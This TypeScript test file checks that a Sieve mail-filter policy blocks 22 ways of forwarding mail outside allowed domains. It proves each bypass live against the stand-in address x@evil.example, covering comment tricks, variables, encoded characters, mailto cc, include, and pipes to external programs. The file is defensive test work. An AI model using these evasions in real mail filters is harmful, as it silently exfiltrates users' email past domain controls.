// Ways verbatim Sieve can send mail outside the allowed domains, each proved
// real first: the script sievewright deploys for the rule set runs through
// the real sieve-test, which shows the mail going outside. Then the forward
// policy must refuse each one under `refuse` and raise it under `alert`, in
// the API (app.inject) and in `sievewright check --policy`, naming the raw
// block and the line of the sending command. A literal address in an
// allowed domain passes all three.
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { PIGEONHOLE_CAPABILITIES } from '../../grammar/capabilities.js';
import { compileRuleSet } from '../../grammar/compile.js';
import { printRules } from '../../grammar/emit/rules-text.js';
import { emptyRuleSet, type RawBlock, type RuleSet } from '../../grammar/model.js';
import { checkPolicy, DEFAULT_POLICY, type Policy } from '../../grammar/policy.js';
import { run as check } from '../../server/cli/check.js';
import { capture } from '../support/capture.js';
import { run, type RunResult } from '../support/programs.js';
import { pigeonhole, type PigeonholeTools } from '../support/pigeonhole.js';
import { ADMIN, addUser, Client, startApp } from './app/harness.js';

const EXTRA = ['notify', 'vnd.dovecot.report', 'vnd.dovecot.pipe', 'vnd.dovecot.execute', 'vnd.dovecot.filter'];
const CAPABILITIES = [...PIGEONHOLE_CAPABILITIES, ...EXTRA];

interface Case {
  name: string;
  requires: string[];
  sieve: string;
  /**
   * What sieve-test lists among the performed actions; null when Pigeonhole
   * refuses the script; `program` when the proof is the message reaching the
   * program (it runs while the script is interpreted).
   */
  shows: string | null;
  /** Line of the sending command in the block. */
  line: number;
}

const BYPASSES: Case[] = [
  { name: 'bracket comment', requires: [], sieve: 'redirect /* "ok@corp.example" */ "x@evil.example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
  { name: 'hash comment', requires: [], sieve: 'redirect # "ok@corp.example"\n  "x@evil.example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
  { name: 'multi-line string', requires: [], sieve: 'redirect text:\nx@evil.example\n.\n;', shows: 'redirect message to: <x@evil.example>', line: 1 },
  { name: 'variable', requires: ['variables'], sieve: 'set "a" "x@evil.example";\nredirect "${a}";', shows: 'redirect message to: <x@evil.example>', line: 2 },
  { name: 'enotify mailto', requires: ['enotify'], sieve: 'notify :message "${1}" "mailto:x@evil.example";', shows: '+ To: x@evil.example', line: 1 },
  { name: 'mailto cc', requires: ['enotify'], sieve: 'notify "mailto:ok@corp.example?cc=x@evil.example";', shows: '+ Cc: x@evil.example', line: 1 },
  { name: 'mailto percent-encoded', requires: ['enotify'], sieve: 'notify "mailto:x%40evil.example";', shows: '+ To: x@evil.example', line: 1 },
  { name: 'nested if', requires: [], sieve: 'if true {\n  if exists "from" {\n    redirect "x@evil.example";\n  }\n}', shows: 'redirect message to: <x@evil.example>', line: 3 },
  { name: 'else branch', requires: ['copy'], sieve: 'if false {\n  keep;\n} elsif false {\n  keep;\n} else {\n  redirect :copy "x@evil.example";\n}', shows: 'redirect message to: <x@evil.example>', line: 6 },
  { name: 'foreverypart', requires: ['foreverypart'], sieve: 'foreverypart {\n  redirect "x@evil.example";\n}', shows: 'redirect message to: <x@evil.example>', line: 2 },
  { name: 'copy', requires: ['copy'], sieve: 'redirect :copy "x@evil.example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
  { name: 'escape', requires: [], sieve: 'redirect "x\\@evil.example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
  { name: 'upper case', requires: [], sieve: 'REDIRECT "x@evil.example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
  { name: 'encoded character', requires: ['encoded-character'], sieve: 'redirect "x@evil${hex:2e}example";', shows: 'redirect message to: <x@evil.example>', line: 1 },
  // Pigeonhole reads the parenthesised part as a comment: only a plain address is judged by its domain.
  { name: 'address comment', requires: [], sieve: 'redirect "x@evil.example (ok@corp.example)";', shows: 'redirect message to: <x@evil.example>', line: 1 },
  { name: 'string list', requires: [], sieve: 'redirect ["x@evil.example", "ok@corp.example"];', shows: null, line: 1 },
  { name: 'deprecated notify', requires: ['notify'], sieve: 'notify :method "mailto" :options "x@evil.example";', shows: '+ To: x@evil.example', line: 1 },
  { name: 'report', requires: ['vnd.dovecot.report'], sieve: 'report "abuse" "see this" "x@evil.example";', shows: 'report incoming message as `abuse\' to: <x@evil.example>', line: 1 },
  { name: 'pipe', requires: ['vnd.dovecot.pipe'], sieve: 'pipe "mailer";', shows: "pipe message to external program 'mailer'", line: 1 },
  { name: 'execute test', requires: ['vnd.dovecot.execute'], sieve: 'if execute :pipe "mailer" {\n  keep;\n}', shows: 'program', line: 1 },
  { name: 'filter test', requires: ['vnd.dovecot.filter'], sieve: 'if true {\n  if not filter "mailer" {\n    stop;\n  }\n}', shows: 'program', line: 2 },
  // forwarder.sieve, in the user's script storage, redirects outside.
  { name: 'include', requires: ['include'], sieve: 'include "forwarder";', shows: 'redirect message to: <x@evil.example>', line: 1 },
];

const ALLOWED: Case = {
  name: 'allowed',
  requires: ['copy', 'enotify'],
  sieve: 'redirect :copy "ok@corp.example";\nredirect text:\nboss@mail.corp.example\n.\n;\nnotify "mailto:ok@corp.example";',
  shows: 'redirect message to: <boss@mail.corp.example>',
  line: 1,
};

const MESSAGE = 'From: sender@outside.example\r\nTo: user@corp.example\r\nSubject: hello\r\n\r\nbody\r\n';

function block(c: Case): RawBlock {
  return { kind: 'raw', name: c.name, sieve: c.sieve, requires: c.requires, enabled: true };
}

function ruleSetOf(...cases: Case[]): RuleSet {
  return { ...emptyRuleSet(), rules: cases.map(block) };
}

const policy = (redirectOutside: Policy['redirectOutside']) => ({
  allowedRedirectDomains: ['corp.example'],
  allowedActions: [...DEFAULT_POLICY.allowedActions],
  maxRules: 100,
  redirectOutside,
});

let tools: PigeonholeTools;
const dir = mkdtempSync(join(tmpdir(), 'sw-policy-'));
const received = join(dir, 'received');

beforeAll(async () => {
  chmodSync(dir, 0o755);
  // The program keeps what it is given where the test can read it; it runs as the mail user.
  mkdirSync(received, { mode: 0o777 });
  chmodSync(received, 0o777);
  writeFileSync(join(dir, 'mailer'), `#!/bin/sh\ncat > ${received}/message\n`, { mode: 0o755 });
  writeFileSync(join(dir, 'forwarder.sieve'), 'redirect "x@evil.example";\n', { mode: 0o644 });
  tools = await pigeonhole({
    extensions: '+notify +vnd.dovecot.report +vnd.dovecot.pipe +vnd.dovecot.execute +vnd.dovecot.filter',
    settings: [
      '  sieve_plugins = sieve_extprograms',
      ...['pipe', 'execute', 'filter'].map((kind) => `  sieve_${kind}_bin_dir = ${dir}`),
      `  sieve = file:${dir}`,
      '',
    ].join('\n'),
  });
});

afterAll(async () => {
  await tools.cleanup();
});

/** The performed-actions part of sieve-test's listing. */
function performed(stdout: string): string {
  return stdout.slice(stdout.indexOf('Performed actions:'), stdout.indexOf('Implicit keep:'));
}

describe('each bypass really sends mail outside (sieve-test on the deployed script)', () => {
  test.each(BYPASSES.filter((c) => c.shows !== null))('$name', async (c) => {
    const compiled = compileRuleSet(ruleSetOf(c), { capabilities: CAPABILITIES });
    expect(compiled.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    rmSync(join(received, 'message'), { force: true });
    const r = await tools.sieveTest(compiled.sieve, MESSAGE);
    expect(r.exitCode, r.stderr).toBe(0);
    if (c.shows === 'program') expect(readFileSync(join(received, 'message'), 'utf8')).toContain('Subject: hello');
    else expect(performed(r.stdout)).toContain(c.shows);
  });

  test('a redirect to a string list is not Sieve: Pigeonhole refuses the script, and the check still judges each address', async () => {
    const c = BYPASSES.find((b) => b.shows === null)!;
    expect((await tools.sievec(compileRuleSet(ruleSetOf(c)).sieve)).ok).toBe(false);
    expect(checkPolicy(ruleSetOf(c), undefined, policy('refuse')).violations.map((v) => v.message)).toEqual([
      'forwarding to x@evil.example is not allowed (allowed domains: corp.example) (line 1 of the raw block)',
    ]);
  });

  test('the allowed block really sends only to the allowed domain', async () => {
    const r = await tools.sieveTest(compileRuleSet(ruleSetOf(ALLOWED)).sieve, MESSAGE);
    expect(r.exitCode, r.stderr).toBe(0);
    const sent = performed(r.stdout);
    expect(sent).toContain('redirect message to: <ok@corp.example>');
    expect(sent).toContain(ALLOWED.shows);
    expect(sent).toContain('+ To: ok@corp.example');
    expect(sent).not.toMatch(/evil/);
  });
});

describe('the API refuses each bypass under refuse and raises it under alert', () => {
  let app: FastifyInstance;
  let admin: Client;

  beforeAll(async () => {
    ({ app } = await startApp({
      worker: false,
      env: {
        SIEVEWRIGHT_DEPLOY__CAPABILITIES: CAPABILITIES.join(','),
        // One login per case from the same address.
        SIEVEWRIGHT_SERVER__LOGIN_LIMIT: JSON.stringify({ perIp: 1000, perUserFailures: 3, windowMinutes: 15 }),
      },
    }));
    await addUser(app, ADMIN, 'root-pw');
    admin = await Client.login(app, ADMIN, 'root-pw');
  });

  afterAll(async () => {
    await app.close();
  });

  async function user(name: string): Promise<Client> {
    await addUser(app, name, 'pw');
    return Client.login(app, name, 'pw');
  }

  test.each(BYPASSES.map((c, i) => ({ ...c, i })))('$name', async (c) => {
    const u = await user(`u${c.i}`);
    expect((await admin.put('/api/admin/policy', policy('refuse'))).statusCode).toBe(200);
    const refused = await u.put('/api/rules', { ruleSet: ruleSetOf(c) });
    expect(refused.statusCode).toBe(422);
    const error = refused.json().error;
    expect(error.code).toBe('policy_violation');
    expect(error.message).toContain(`${c.name}: `);
    expect(error.details.violations).toContainEqual(expect.objectContaining({ rule: c.name, line: c.line }));
    expect(app.ctx.rules.latest(`u${c.i}`)).toBeUndefined();

    // Pigeonhole refuses a script with a string-list redirect; whether a save
    // may store it is the validator's business, not the policy's.
    if (c.shows === null) return;
    expect((await admin.put('/api/admin/policy', policy('alert'))).statusCode).toBe(200);
    const saved = await u.put('/api/rules', { ruleSet: ruleSetOf(c) });
    expect(saved.statusCode, saved.body).toBe(200);
    const alerts = app.ctx.audit.list({ target: `u${c.i}` }).filter((e) => e.alert);
    expect(alerts.length).toBeGreaterThan(0);
    expect(alerts[0]!.details).toMatchObject({ rule: c.name, line: c.line });
  });

  test('an allowed literal address saves under refuse and raises no alert under alert', async () => {
    const u = await user('fine');
    await admin.put('/api/admin/policy', policy('refuse'));
    expect((await u.put('/api/rules', { ruleSet: ruleSetOf(ALLOWED) })).statusCode).toBe(200);
    await admin.put('/api/admin/policy', policy('alert'));
    const again = ruleSetOf(ALLOWED, { ...ALLOWED, name: 'allowed 2' });
    expect((await u.put('/api/rules', { ruleSet: again })).statusCode).toBe(200);
    expect(app.ctx.audit.list({ target: 'fine' }).filter((e) => e.alert)).toEqual([]);
  });

  test('an unchanged outside forward is not raised again; a change of the variable behind it is', async () => {
    const u = await user('again');
    await admin.put('/api/admin/policy', policy('alert'));
    const withVar = (value: string): RuleSet => ruleSetOf({ ...BYPASSES[3]!, sieve: `set "a" "${value}";\nredirect "\${a}";` });
    await u.put('/api/rules', { ruleSet: withVar('x@evil.example') });
    await u.put('/api/rules', { ruleSet: { ...withVar('x@evil.example'), whitelist: [{ pattern: 'a@b.example', authenticated: false }] } });
    expect(app.ctx.audit.list({ target: 'again' }).filter((e) => e.alert)).toHaveLength(1);
    await u.put('/api/rules', { ruleSet: withVar('y@evil.example') });
    expect(app.ctx.audit.list({ target: 'again' }).filter((e) => e.alert)).toHaveLength(2);
  });
});

describe('sievewright check --policy', () => {
  const bin = join(import.meta.dirname, '..', '..', 'server', 'cli', 'bin.js');
  const rulesFile = join(dir, 'bypasses.rules');
  const allowedFile = join(dir, 'allowed.rules');
  const refuseFile = join(dir, 'refuse.json');
  const alertFile = join(dir, 'alert.json');
  const badFile = join(dir, 'bad.json');
  // `check` compiles for Pigeonhole's default extensions, so the blocks that
  // need others (their policy findings come from the same function) stay out.
  const defaults = new Set(PIGEONHOLE_CAPABILITIES);
  const cases = BYPASSES.filter((c) => c.requires.every((r) => defaults.has(r)));
  const text = printRules(ruleSetOf(...cases));
  const results = new Map<string, RunResult>();

  beforeAll(async () => {
    writeFileSync(rulesFile, text);
    writeFileSync(allowedFile, printRules(ruleSetOf(ALLOWED)));
    writeFileSync(refuseFile, JSON.stringify(policy('refuse')));
    // As PUT takes it: redirectOutside may be left out (alert).
    const { redirectOutside: _, ...alert } = policy('alert');
    writeFileSync(alertFile, JSON.stringify(alert));
    writeFileSync(badFile, JSON.stringify({ ...alert, maxRules: -1 }));
    const runs = {
      refuse: ['check', rulesFile, '--policy', refuseFile],
      alert: ['check', rulesFile, '--policy', alertFile],
      allowed: ['check', allowedFile, '--policy', refuseFile],
      bad: ['check', allowedFile, '--policy', badFile],
      usage: ['check', allowedFile, '--policy'],
    };
    await Promise.all(Object.entries(runs).map(async ([k, args]) => results.set(k, await run(process.execPath, [bin, ...args]))));
  }, 120_000);

  /** The line in the DSL text of line `line` of the block named `name` (printed as `|` lines under its head). */
  function dslLine(name: string, line: number): number {
    return text.split('\n').findIndex((l) => l.startsWith(`raw "${name}"`)) + 1 + line;
  }

  test('under refuse each bypass is an error at its line, naming the block, and the exit is 1', () => {
    const r = results.get('refuse')!;
    expect(r.code, r.stderr).toBe(1);
    for (const c of cases) expect(r.stderr).toMatch(new RegExp(`bypasses\\.rules:${dslLine(c.name, c.line)}:\\d+: error: rule "${c.name}": `));
    expect(r.stderr).toContain(`bypasses.rules: ${cases.length} policy violations`);
  });

  test('under alert each bypass is a warning and the exit is 0', () => {
    const r = results.get('alert')!;
    expect(r.code, r.stderr).toBe(0);
    for (const c of cases) expect(r.stderr).toMatch(new RegExp(`bypasses\\.rules:${dslLine(c.name, c.line)}:\\d+: warning: rule "${c.name}": `));
    expect(r.stderr).not.toMatch(/error:/);
  });

  test('an allowed literal address passes under refuse', () => {
    const r = results.get('allowed')!;
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toBe('');
  });

  test('a policy file that is not JSON or names unknown actions is exit 1 with what is wrong', async () => {
    writeFileSync(join(dir, 'not.json'), '{ "allowedRedirectDomains": [');
    writeFileSync(join(dir, 'actions.json'), JSON.stringify({ ...policy('refuse'), allowedActions: ['redirect', 'teleport'] }));
    const notJson = await capture(() => check([allowedFile, '--policy', join(dir, 'not.json')]));
    expect(notJson.code).toBe(1);
    expect(notJson.err).toMatch(/^sievewright check: .*not\.json: not valid JSON: /);
    const actions = await capture(() => check([allowedFile, '--policy', join(dir, 'actions.json')]));
    expect(actions.code).toBe(1);
    expect(actions.err).toMatch(/actions\.json: unknown actions: teleport\n$/);
  });

  test('a policy the API would refuse is exit 1 with what is wrong; a missing value is a usage error', () => {
    expect(results.get('bad')!.code).toBe(1);
    expect(results.get('bad')!.stderr).toMatch(/bad\.json: not a policy as PUT \/api\/admin\/policy takes it:\n {2}\/maxRules: /);
    expect(results.get('usage')!.code).toBe(2);
  });
});
